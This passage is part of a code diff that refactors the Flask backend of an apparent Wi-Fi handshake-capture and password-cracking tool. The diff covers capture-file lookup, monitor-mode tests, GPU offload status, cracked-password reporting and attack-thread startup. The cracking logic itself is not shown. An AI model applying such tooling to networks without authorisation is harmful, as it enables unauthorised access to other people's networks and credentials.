+                    pass
+        _cap_index_add(upload_path)
+
         logger.info(f"Uploaded capture file: {filename}")
         
         # If GPU processing is enabled, transfer to PC
@@ -2088,12 +2942,9 @@ def manual_transfer_to_gpu():
         filename = data.get("filename", "")
         
         if not filename:
-            # Find latest capture file
-            cap_files = list(CAP_DIR.glob("*.cap")) + list(CAP_DIR.glob("*.pcap"))
-            if not cap_files:
+            latest_file = _latest_capture()
+            if latest_file is None:
                 return jsonify({"error": "No capture files found"}), 404
-            
-            latest_file = max(cap_files, key=lambda x: x.stat().st_mtime)
         else:
             latest_file = CAP_DIR / filename
             if not latest_file.exists():
@@ -2129,6 +2980,7 @@ def test_monitor_endpoint():
         # Update interface state
         interface_state["monitor_tested"] = result
         interface_state["last_monitor_test"] = time.time()
+        interface_state["version"] += 1
         
         # Reset to managed mode
         setup_managed_mode(mon_iface)
@@ -2150,13 +3002,10 @@ def test_monitor_endpoint():
 def analyze_latest_capture():
     """Analyze the latest capture file"""
     try:
-        # Find latest capture file
-        cap_files = list(CAP_DIR.glob("*.cap")) + list(CAP_DIR.glob("*.pcap"))
-        if not cap_files:
+        latest_file = _latest_capture()
+        if latest_file is None:
             return jsonify({"error": "No capture files found"}), 404
-        
-        latest_file = max(cap_files, key=lambda x: x.stat().st_mtime)
-        
+
         # Run analysis
         size = latest_file.stat().st_size
         
@@ -2310,6 +3159,9 @@ def update_gpu_status():
             attack_state["gpu_filename"] = data.get("filename", "")
             attack_state["gpu_info"] = data.get("gpu_info", "")
             attack_state["last_gpu_update"] = datetime.now().isoformat()
+            # Republish the snapshot - the attack worker is parked inside
+            # wait_for_gpu_result during offload, so nobody else bumps it
+            _bump_rev()
         
         logger.info(f"GPU Status Update: {data.get('status')} - {data.get('progress')}%")
         return jsonify({"status": "received"}), 200
@@ -2343,7 +3195,8 @@ def receive_crack_result():
             attack_state["running"] = False
             attack_state["crack_timestamp"] = timestamp
             attack_state["cracked_by"] = cracked_by
-        
+            _bump_rev()
+
         logger.info(f"Crack Result: {target} -> {password} (by {cracked_by})")
         return jsonify({"status": "received"}), 200
         
@@ -2386,8 +3239,7 @@ def test_attack():
             }), 200
         else:
             # Real attack mode - use existing attack_worker
-            t = threading.Thread(target=attack_worker, args=(ssid,), daemon=True)
-            t.start()
+            t = start_attack_thread(ssid)
             
             return jsonify({
                 "status": "started",